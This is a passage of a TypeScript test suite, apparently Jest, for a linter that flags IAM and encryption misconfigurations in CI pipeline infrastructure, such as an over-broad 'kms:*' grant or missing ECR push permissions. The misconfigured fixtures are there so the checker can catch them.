    rule: 'CIP_IAM_13',
    path: 'ci/build/role/role',
    // Every action of KMS where the build needs four, as an escape hatch written in a hurry would grant it.
    failing: grant(['kms:*'], ['${aws_kms_key.ci_key_3C3C3511.arn}']),
    message: new RegExp(
      String.raw`role ci-app\/ci\/build\/role\/role \(statement Extra\) allows beyond what codebuild.amazonaws.com ` +
        String.raw`needs: kms:\* \(kms:\w+, kms:\w+, kms:\w+, \.\.\. \(\d+ actions beyond need\)\) on `,
    ),
  },
  {
    rule: 'CIP_PERM_1',
    path: 'bare/build/project',
    // An image repository whose push permission was never granted: `grantPush` forgotten.
    failing: () =>
      bareStack((stack, key) => {
        const repository = new ImageRepository(stack, 'images', {
          repositoryName: 'app',
          encryptionKeyArn: key.keyArn,
        });
        new BuildProject(stack, 'build', {
          projectName: 'app',
          encryptionKey: key,
          environmentVariables: [{ name: 'IMAGE_REPOSITORY_URI', value: repository.repositoryUrl }],
        });
      }),
    message: new RegExp(
      String.raw`role bare\/build\/role\/role may not push images: ecr:BatchCheckLayerAvailability, .*ecr:PutImage.* ` +
        String.raw`on \$\{aws_ecr_repository\.images_repository_[0-9A-F]+\.arn\}`,
    ),
  },
  {
    rule: 'CIP_PERM_2',
    path: 'ci/pipeline/pipeline',
    // The role policy replaced by JSON text that grants only the artifact objects.
    failing: override(
      'pipeline/role/policy',
      'policy',
      JSON.stringify({
        Version: '2012-10-17',
        Statement: [
          { Effect: 'Allow', Action: ['s3:GetObject', 's3:GetObjectVersion', 's3:PutObject'], Resource: '*' },
        ],
      }),
    ),
    message: new RegExp(
      String.raw`role ci-app\/ci\/pipeline\/role\/role may not run the TestAndBuildImage action: ` +
        String.raw`codebuild:BatchGetBuilds, codebuild:StartBuild`,
    ),
  },
  {
    rule: 'CIP_PERM_3',
    path: 'bare/notifications/rule-pipeline-failed',
    // The topic switched to the AWS managed key, whose policy cannot let CodeStar Notifications use it.
    failing: notifying((notifications) =>
      (notifications.node.findChild('topic') as TerraformResource).addOverride('kms_master_key_id', 'alias/aws/sns'),
    ),
    message: /topic bare\/notifications\/topic is encrypted with the AWS managed key alias\/aws\/sns/,
    passing: notifying(),
  },
];

describe('guardrail rules', () => {
  const product = {
    'webhook-dockerhub': check(pipelineStack('webhook-dockerhub')),
    'connection-ecr': check(pipelineStack('connection-ecr')),
  };

  test('the product passes every rule, with only the documented suppressions', () => {
    for (const report of Object.values(product)) expect(report.findings.map(formatFinding)).toEqual([]);
    const suppressed = (report: StackReport) =>
      report.suppressed.map((finding) => `${finding.ruleId} ${finding.path}`).sort();
    expect(suppressed(product['webhook-dockerhub'])).toEqual([
      'CIP_SEC_2 ci-app/ci/webhook/pipeline-webhook',
      'CIP_SM_2 ci-app/ci/webhook/oauth-token',
      'CKV2_AWS_57 ci-app/ci/dockerhub-credentials/secret',
      'CKV_AWS_316 ci-app/ci/build/project',
      'CKV_AWS_316 ci-app/ci/pull-request-build/project',
    ]);
    expect(suppressed(product['connection-ecr'])).toEqual([
      'CKV_AWS_316 ci-app/ci/build/project',
      'CKV_AWS_316 ci-app/ci/pull-request-build/project',
    ]);
  });

  test('every rule has a failing case', () => {
    const tested = new Set(CASES.map((ruleCase) => ruleCase.rule));
    expect(ALL_RULES.map((rule) => rule.id).filter((id) => !tested.has(id))).toEqual([]);
  });

  test('rule IDs are unique and every rule says how to fix it', () => {
    const ids = ALL_RULES.map((rule) => rule.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const rule of ALL_RULES) expect(rule.fix.length).toBeGreaterThan(10);
  });

  describe.each(CASES.map((ruleCase) => [`${ruleCase.rule} (${ruleCase.path})`, ruleCase] as const))(
    '%s',
    (_name, ruleCase) => {
      test('a tree that breaks it fails with the construct path, rule ID, problem and fix', () => {
        const report = check(ruleCase.failing());
        const findings = findingsOf(report, ruleCase.rule);
        expect(findings.map((finding) => finding.problem)).toEqual(
          expect.arrayContaining([expect.stringMatching(ruleCase.message)]),
        );
        const finding = findings.find((candidate) => ruleCase.message.test(candidate.problem))!;
        expect(finding.path.endsWith(ruleCase.path)).toBe(true);
        const rule = ALL_RULES.find((candidate) => candidate.id === ruleCase.rule)!;
        expect(formatFinding(finding)).toBe(
          `[${finding.path}] ${rule.id} ${rule.name}: ${finding.problem}. Fix: ${rule.fix}.`,
        );
      });

      test('a tree that complies passes it', () => {
        const reports = ruleCase.passing === undefined ? Object.values(product) : [check(ruleCase.passing())];
        expect(reports.some((report) => report.rulesApplied.includes(ruleCase.rule))).toBe(true);
        for (const report of reports) expect(findingsOf(report, ruleCase.rule)).toEqual([]);
      });
    },
  );
});
